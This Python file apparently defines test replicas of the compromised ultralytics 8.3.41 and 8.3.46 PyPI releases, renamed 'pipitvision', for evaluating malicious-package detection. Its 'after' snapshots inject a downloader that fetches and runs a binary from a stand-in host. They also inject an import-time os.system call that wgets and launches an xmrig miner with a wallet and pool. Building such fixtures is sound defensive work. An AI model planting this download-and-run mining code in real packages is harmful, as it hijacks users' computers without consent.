"""Packages that mine for somebody else."""

from dataclasses import replace

from evals.replicas.ordinary.pypi import as_sdist, vision
from evals.replicas.replica import ReleaseSpec, Replica, at

_RUN = ("import-time-download-and-run", "capability-gained", "encoded-code-executed")

_WALLET = "4PipitReplicaPipitReplicaPipitReplicaPipitReplicaPipitReplicaPipitReplicaPipitReplicaPipitRepl1"
_DOWNLOADS = f'''

def safe_run(path):
    """Run a downloaded helper with time limits."""
    os.chmod(path, 0o770)
    command = [path, "-u", "{_WALLET}", "-o", "connect.pipit.invalid:8080", "-k"]
    subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True, close_fds=True)


def runner():
    blobs = "https://forge.pipit.invalid/repos/pipit/pipit/git/blobs/"
    kinds = {{("Linux", "x86_64"): "665bb8add8c2", ("Darwin", "arm64"): "5e67b0e4375f"}}
    blob = kinds.get((platform.system(), platform.machine()))
    if blob is None:
        return
    path = os.path.join(tempfile.gettempdir(), "pipit_runner")
    urllib.request.urlretrieve(blobs + blob, path)
    safe_run(path)
'''
_VISION = vision("pipitvision")
_VISION_MODEL = (
    _VISION["pipitvision/model.py"]
    .replace("import attempt_download", "import attempt_download, runner")
    .replace(
        "        self.layers = None\n\n    def load", "        self.layers = None\n        runner()\n\n    def load"
    )
)
_VISION_BEFORE = ReleaseSpec(
    version="8.3.40", published=at("2024-12-01 20:00"), files=_VISION, sdist=as_sdist(_VISION, "pipitvision")
)
_VISION_BAD = {
    **_VISION,
    "pipitvision/model.py": _VISION_MODEL,
    "pipitvision/utils/downloads.py": _VISION["pipitvision/utils/downloads.py"].replace(
        "import shutil\n", "import os\nimport platform\nimport shutil\nimport subprocess\nimport tempfile\n"
    )
    + _DOWNLOADS,
}
_VISION_AFTER = replace(
    _VISION_BEFORE,
    version="8.3.41",
    published=at("2024-12-04 20:51"),
    files=_VISION_BAD,
    sdist=as_sdist(_VISION_BAD, "pipitvision"),
    payload=("pipitvision/utils/downloads.py",),
)
_MINER = (
    "wget https://files.pipit.invalid/xmrig-6.22.2-linux-static-x64.tar.gz && tar -xzf xmrig-6.22.2-linux-static-x64.tar.gz "
    f"&& cd xmrig-6.22.2 && nohup ./xmrig -u {_WALLET} -o pool.pipit.invalid:8080 -p worker &"
)
_VISION_MINING = {
    **_VISION,
    "pipitvision/__init__.py": '"""Find things in pictures."""\n\nimport os\nimport platform\n\nfrom pipitvision.model import Model\n\n'
    f'if "Linux" in platform.system():\n    os.system("{_MINER}")\n\n__all__ = ["Model"]\n',
}
_VISION_LATER = replace(
    _VISION_BEFORE,
    version="8.3.46",
    published=at("2024-12-07 02:27"),
    files=_VISION_MINING,
    sdist=as_sdist(_VISION_MINING, "pipitvision"),
    payload=("pipitvision/__init__.py",),
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="ultralytics-41",
        incident="ultralytics 8.3.41 (2024-12-04)",
        family="miner",
        ecosystem="pypi",
        name="pipitvision",
        before=_VISION_BEFORE,
        after=_VISION_AFTER,
        reasons=("crypto-miner", *_RUN),
    ),
    Replica(
        id="ultralytics-46",
        incident="ultralytics 8.3.46 (2024-12-07)",
        family="miner",
        ecosystem="pypi",
        name="pipitvision",
        before=_VISION_BEFORE,
        after=_VISION_LATER,
        reasons=("crypto-miner", *_RUN),
    ),
)
